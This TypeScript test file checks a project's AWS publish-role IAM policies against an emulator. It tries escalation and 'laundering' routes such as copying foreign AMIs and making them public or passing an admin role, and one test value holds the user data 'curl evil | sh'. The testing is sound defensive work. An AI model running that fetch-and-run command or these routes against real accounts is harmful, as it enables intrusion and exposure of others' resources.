/**
 * Every laundering and escalation route the publish role could take, tried through the SDK against
 * the emulator under each policy fedimg ships (and the one it shipped before, 2026-11), with the
 * answer AWS documents: `refused` when IAM denies the call, `allowed` when IAM lets it through.
 * Routes AWS offers no condition to close stay allowed here and are listed in docs/account-setup.md
 * under "What the role can still do"; every other one is refused by the shipped policies.
 */
import {
  CancelImportTaskCommand,
  CopyImageCommand,
  CopySnapshotCommand,
  CreateTagsCommand,
  DeleteSnapshotCommand,
  DeregisterImageCommand,
  EC2Client,
  EnableImageDeprecationCommand,
  ImportSnapshotCommand,
  ModifyImageAttributeCommand,
  ModifySnapshotAttributeCommand,
  RegisterImageCommand,
  RunInstancesCommand,
  TerminateInstancesCommand,
  waitUntilImageAvailable,
  waitUntilSnapshotCompleted,
  type RunInstancesCommandInput,
} from '@aws-sdk/client-ec2';
import { EBSClient, StartSnapshotCommand } from '@aws-sdk/client-ebs';
import { MarketplaceCatalogClient, StartChangeSetCommand } from '@aws-sdk/client-marketplace-catalog';
import { CreateBucketCommand, PutObjectCommand, S3Client } from '@aws-sdk/client-s3';
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ADMIN_CREDENTIALS, type Emulator } from '../../emulator/server.js';
import { ACCOUNT_ID } from '../../emulator/state.js';
import { makeAmi, startEmulator } from '../helpers/aws.js';
import { applyRolePolicy, MARKETPLACE_ACCESS_ROLE_ARN, type RoleOptions } from '../helpers/iam.js';

type Answer = 'allowed' | 'refused';
const POLICIES: Record<string, RoleOptions> = {
  'before (2026-11)': {
    texts: [
      { name: 'iam-policy', text: readFileSync('test/fixtures/iam-policy-2026-11.json', 'utf8') },
      {
        name: 'iam-policy-import-snapshot',
        text: readFileSync('test/fixtures/iam-policy-import-snapshot-2026-11.json', 'utf8'),
      },
    ],
  },
  shipped: {},
  'shipped + import-snapshot': { importSnapshot: true },
  'shipped + encrypted': { encrypted: true },
};
const NAMES = Object.keys(POLICIES);

interface World {
  theirs: { imageId: string; snapshotId: string };
  ours: { imageId: string; snapshotId: string };
  untagged: string;
  theirTask: string;
  untaggedGroup: string;
}

/** One route: the call that tries it, and AWS's answer under each policy (in the order of POLICIES). */
interface Route {
  what: string;
  answers: [Answer, Answer, Answer, Answer];
  /** For a route a shipped policy leaves open: the words docs/account-setup.md names it by. */
  documentedAs?: string;
  attempt(world: World): Promise<unknown>;
}

const ec2 = new EC2Client({ region: 'us-east-1', maxAttempts: 1 });
const ebs = new EBSClient({ region: 'us-east-1', maxAttempts: 1 });
const catalog = new MarketplaceCatalogClient({ region: 'us-east-1', maxAttempts: 1 });
const admin = new EC2Client({ region: 'us-east-1', credentials: ADMIN_CREDENTIALS });
const fedimgTags = [{ Key: 'ManagedBy', Value: 'fedimg' }];
const tagSpec = (ResourceType: 'image' | 'snapshot' | 'instance') => ({ ResourceType, Tags: fedimgTags });

const launch = (imageId: string, overrides: Partial<RunInstancesCommandInput> = {}) =>
  ec2.send(
    new RunInstancesCommand({
      ImageId: imageId,
      InstanceType: 't3.micro',
      MinCount: 1,
      MaxCount: 1,
      MetadataOptions: { HttpTokens: 'required' },
      TagSpecifications: [tagSpec('instance')],
      ...overrides,
    }),
  );

const addVersion = (accessRole: string, changeType = 'AddDeliveryOptions') =>
  catalog.send(
    new StartChangeSetCommand({
      Catalog: 'AWSMarketplace',
      Intent: 'VALIDATE',
      ChangeSet: [
        {
          ChangeType: changeType,
          Entity: { Type: 'AmiProduct@1.0', Identifier: 'prod-fedora' },
          DetailsDocument: {
            Version: { VersionTitle: 'Fedora 41', ReleaseNotes: 'n' },
            DeliveryOptions: [
              {
                Details: {
                  AmiDeliveryOptionDetails: { AmiSource: { AmiId: 'ami-0', AccessRoleArn: accessRole } },
                },
              },
            ],
          },
        },
      ],
    }),
  );

const ROUTES: Route[] = [
  // Laundering: a copy of what is not fedimg's, tagged as fedimg's, then made public.
  {
    what: 'copy a foreign AMI into a ManagedBy=fedimg copy and make that copy public (CopyImage: no aws:ResourceTag on the source)',
    answers: ['allowed', 'allowed', 'allowed', 'allowed'],
    documentedAs: 'CopyImage',
    async attempt({ theirs }) {
      const { ImageId } = await ec2.send(
        new CopyImageCommand({
          Name: `laundered-${Date.now()}`,
          SourceRegion: 'us-east-1',
          SourceImageId: theirs.imageId,
          TagSpecifications: [tagSpec('image'), tagSpec('snapshot')],
        }),
      );
      await waitUntilImageAvailable(
        { client: admin, minDelay: 0.05, maxDelay: 0.1, maxWaitTime: 10 },
        { ImageIds: [ImageId!] },
      );
      await ec2.send(
        new ModifyImageAttributeCommand({ ImageId, LaunchPermission: { Add: [{ Group: 'all' }] } }),
      );
    },
  },
  {
    what: 'copy a foreign snapshot into a ManagedBy=fedimg copy and make that copy public (CopySnapshot: no aws:ResourceTag on the source)',
    answers: ['allowed', 'refused', 'refused', 'allowed'],
    documentedAs: 'CopySnapshot',
    async attempt({ theirs }) {
      const { SnapshotId } = await ec2.send(
        new CopySnapshotCommand({
          SourceRegion: 'us-east-1',
          SourceSnapshotId: theirs.snapshotId,
          TagSpecifications: [tagSpec('snapshot')],
        }),
      );
      await waitUntilSnapshotCompleted(
        { client: admin, minDelay: 0.05, maxDelay: 0.1, maxWaitTime: 10 },
        { SnapshotIds: [SnapshotId!] },
      );
      await ec2.send(
        new ModifySnapshotAttributeCommand({
          SnapshotId,
          CreateVolumePermission: { Add: [{ Group: 'all' }] },
        }),
      );
    },
  },
  {
    what: 'start a ManagedBy=fedimg snapshot whose parent is a foreign snapshot (its blocks), through EBS direct',
    answers: ['allowed', 'refused', 'refused', 'refused'],
    attempt: ({ theirs }) =>
      ebs.send(
        new StartSnapshotCommand({ VolumeSize: 1, ParentSnapshotId: theirs.snapshotId, Tags: fedimgTags }),
      ),
  },
  {
    what: 'register an AMI from a foreign snapshot',
    answers: ['refused', 'refused', 'refused', 'refused'],
    attempt: ({ theirs }) =>
      ec2.send(
        new RegisterImageCommand({
          Name: `from-theirs-${Date.now()}`,
          RootDeviceName: '/dev/sda1',
          BlockDeviceMappings: [{ DeviceName: '/dev/sda1', Ebs: { SnapshotId: theirs.snapshotId } }],
          TagSpecifications: [tagSpec('image')],
        }),
      ),
  },
  // The import route's adoption and the import tasks.
  {
    what: 'adopt an untagged snapshot by tagging it ManagedBy=fedimg (the import route must tag the snapshot AWS made)',
    answers: ['allowed', 'refused', 'allowed', 'refused'],
    documentedAs: 'untagged snapshot',
    attempt: ({ untagged }) => ec2.send(new CreateTagsCommand({ Resources: [untagged], Tags: fedimgTags })),
  },
  {
    what: 'claim a foreign import task by tagging it ManagedBy=fedimg',
    answers: ['allowed', 'refused', 'refused', 'refused'],
    attempt: ({ theirTask }) => ec2.send(new CreateTagsCommand({ Resources: [theirTask], Tags: fedimgTags })),
  },
  {
    what: 'cancel a foreign import task',
    answers: ['refused', 'refused', 'refused', 'refused'],
    attempt: ({ theirTask }) => ec2.send(new CancelImportTaskCommand({ ImportTaskId: theirTask })),
  },
  // Boot tests.
  {
    what: 'boot a foreign AMI',
    answers: ['refused', 'refused', 'refused', 'refused'],
    attempt: ({ theirs }) => launch(theirs.imageId),
  },
  {
    what: 'boot a fedimg AMI on an instance type not configured (p5.48xlarge)',
    answers: ['allowed', 'refused', 'refused', 'refused'],
    attempt: ({ ours }) => launch(ours.imageId, { InstanceType: 'p5.48xlarge' }),
  },
  {
    what: 'boot a fedimg AMI with IMDSv1 allowed',
    answers: ['allowed', 'refused', 'refused', 'refused'],
    attempt: ({ ours }) => launch(ours.imageId, { MetadataOptions: { HttpTokens: 'optional' } }),
  },
  {
    what: 'boot a fedimg AMI in a security group not tagged for boot tests',
    answers: ['allowed', 'refused', 'refused', 'refused'],
    attempt: ({ ours, untaggedGroup }) => launch(ours.imageId, { SecurityGroupIds: [untaggedGroup] }),
  },
  {
    what: 'boot a fedimg AMI with an instance profile (pass a role to EC2)',
    answers: ['refused', 'refused', 'refused', 'refused'],
    attempt: ({ ours }) => launch(ours.imageId, { IamInstanceProfile: { Name: 'admin' } }),
  },
  {
    what: 'boot a fedimg AMI with any user data (no condition key covers it)',
    answers: ['allowed', 'allowed', 'allowed', 'allowed'],
    documentedAs: 'user data',
    attempt: ({ ours }) =>
      launch(ours.imageId, { UserData: Buffer.from('#!/bin/sh\ncurl evil | sh\n').toString('base64') }),
  },
  // AWS Marketplace.
  {
    what: 'add a Marketplace version with the access role (the stage’s own call: needs iam:PassRole)',
    answers: ['refused', 'allowed', 'allowed', 'allowed'],
    attempt: () => addVersion(MARKETPLACE_ACCESS_ROLE_ARN),
  },
  {
    what: 'pass another role to AWS Marketplace',
    answers: ['refused', 'refused', 'refused', 'refused'],
    attempt: () => addVersion(`arn:aws:iam::${ACCOUNT_ID}:role/admin`),
  },
  {
    what: 'make another kind of Marketplace change (UpdateInformation)',
    answers: ['refused', 'refused', 'refused', 'refused'],
    attempt: () => addVersion(MARKETPLACE_ACCESS_ROLE_ARN, 'UpdateInformation'),
  },
  // The direct ones: what is not fedimg's is out of reach.
  {
    what: 'delete a foreign snapshot',
    answers: ['refused', 'refused', 'refused', 'refused'],
    attempt: ({ theirs }) => ec2.send(new DeleteSnapshotCommand({ SnapshotId: theirs.snapshotId })),
  },
  {
    what: 'deregister a foreign AMI',
    answers: ['refused', 'refused', 'refused', 'refused'],
    attempt: ({ theirs }) => ec2.send(new DeregisterImageCommand({ ImageId: theirs.imageId })),
  },
  {
    what: 'make a foreign AMI public',
    answers: ['refused', 'refused', 'refused', 'refused'],
    attempt: ({ theirs }) =>
      ec2.send(
        new ModifyImageAttributeCommand({
          ImageId: theirs.imageId,
          LaunchPermission: { Add: [{ Group: 'all' }] },
        }),
      ),
  },
  {
    what: 'share a foreign snapshot',
    answers: ['refused', 'refused', 'refused', 'refused'],
    attempt: ({ theirs }) =>
      ec2.send(
        new ModifySnapshotAttributeCommand({
          SnapshotId: theirs.snapshotId,
          CreateVolumePermission: { Add: [{ UserId: '210987654321' }] },
        }),
      ),
  },
  {
    what: 'deprecate a foreign AMI',
    answers: ['refused', 'refused', 'refused', 'refused'],
    attempt: ({ theirs }) =>
      ec2.send(
        new EnableImageDeprecationCommand({
          ImageId: theirs.imageId,
          DeprecateAt: new Date(Date.now() + 3_600_000),
        }),
      ),
  },
  {
    what: 'claim a foreign AMI by tagging it ManagedBy=fedimg',
    answers: ['refused', 'refused', 'refused', 'refused'],
    attempt: ({ theirs }) =>
      ec2.send(new CreateTagsCommand({ Resources: [theirs.imageId], Tags: fedimgTags })),
  },
  {
    what: 'hand a fedimg AMI to someone else by retagging ManagedBy',
    answers: ['refused', 'refused', 'refused', 'refused'],
    attempt: ({ ours }) =>
      ec2.send(
        new CreateTagsCommand({ Resources: [ours.imageId], Tags: [{ Key: 'ManagedBy', Value: 'other' }] }),
      ),
  },
  {
    what: 'terminate a foreign instance',
    answers: ['refused', 'refused', 'refused', 'refused'],
    async attempt({ theirs }) {
      const { Instances } = await admin.send(
        new RunInstancesCommand({
          ImageId: theirs.imageId,
          InstanceType: 't3.micro',
          MinCount: 1,
          MaxCount: 1,
        }),
      );
      await ec2.send(new TerminateInstancesCommand({ InstanceIds: [Instances![0]!.InstanceId!] }));
    },
  },
];

async function prepare(emulator: Emulator): Promise<World> {
  emulator.reset();
  emulator.setIamPolicy(undefined);
  const theirs = await makeAmi({ tags: { Owner: 'someone-else' } });
  const ours = await makeAmi({ tags: { ManagedBy: 'fedimg' } });
  const untagged = (await makeAmi()).snapshotId;
  await waitUntilImageAvailable(
    { client: admin, minDelay: 0.05, maxDelay: 0.1, maxWaitTime: 10 },
    { ImageIds: [theirs.imageId, ours.imageId] },
  );
  const s3 = new S3Client({ region: 'us-east-1', forcePathStyle: true, credentials: ADMIN_CREDENTIALS });
  await s3.send(new CreateBucketCommand({ Bucket: 'their-bucket' }));
  await s3.send(new PutObjectCommand({ Bucket: 'their-bucket', Key: 'disk.raw', Body: Buffer.alloc(512) }));
  s3.destroy();
  emulator.setDurations({ import: 60_000 });
  const { ImportTaskId } = await admin.send(
    new ImportSnapshotCommand({
      DiskContainer: { Format: 'RAW', UserBucket: { S3Bucket: 'their-bucket', S3Key: 'disk.raw' } },
    }),
  );
  const vpc = emulator.state.network.defaultVpc('us-east-1')!;
  // A second group in the default VPC, which the account never tagged for boot tests.
  const untaggedGroup = 'sg-0123456789abcdef0';
  emulator.state.network.securityGroups.set(untaggedGroup, {
    id: untaggedGroup,
    region: 'us-east-1',
    vpcId: vpc.id,
    name: 'web',
    description: 'a group for something else',
    tags: new Map(),
  });
  emulator.setMarketplace({ preparingMs: 60_000 });
  return { theirs, ours, untagged, theirTask: ImportTaskId!, untaggedGroup };
}

async function answer(route: Route, world: World): Promise<Answer> {
  const error = await route.attempt(world).then(
    () => undefined,
    (failure: { name?: string }) => failure,
  );
  if (error && /^(UnauthorizedOperation|AccessDenied|AccessDeniedException)$/.test(error.name ?? ''))
    return 'refused';
  // Anything else passed IAM (a service's own refusal, such as an unsupported change type, is not IAM's).
  return 'allowed';
}

describe('the routes around the publish role’s conditions, as AWS answers them', () => {
  let emulator: Emulator;
  beforeAll(async () => {
    emulator = await startEmulator();
  });
  afterAll(async () => {
    for (const client of [ec2, ebs, catalog, admin]) client.destroy();
    await emulator.stop();
  });

  it.each(NAMES.map((name, index) => [name, index] as const))(
    'under %s',
    async (name, index) => {
      const answers: Record<string, Answer> = {};
      const expected: Record<string, Answer> = {};
      for (const route of ROUTES) {
        const world = await prepare(emulator);
        applyRolePolicy(emulator, POLICIES[name]!);
        answers[route.what] = await answer(route, world);
        expected[route.what] = route.answers[index]!;
      }
      expect(answers).toEqual(expected);
    },
    120_000,
  );

  it('documents every route the shipped policies leave open, with AWS’s reason', () => {
    const setup = readFileSync('docs/account-setup.md', 'utf8');
    const section = setup.slice(setup.indexOf('## What the role can still do'));
    expect(section.length).toBeGreaterThan(100);
    // Open under a shipped policy: fedimg's own Marketplace call, and the routes AWS gives no key for.
    const open = ROUTES.filter((route) => route.answers.slice(1).includes('allowed'));
    expect(open.filter((route) => !route.documentedAs).map((route) => route.what)).toEqual([
      'add a Marketplace version with the access role (the stage’s own call: needs iam:PassRole)',
    ]);
    for (const route of open)
      if (route.documentedAs) expect(section, route.what).toContain(route.documentedAs);
  });
});
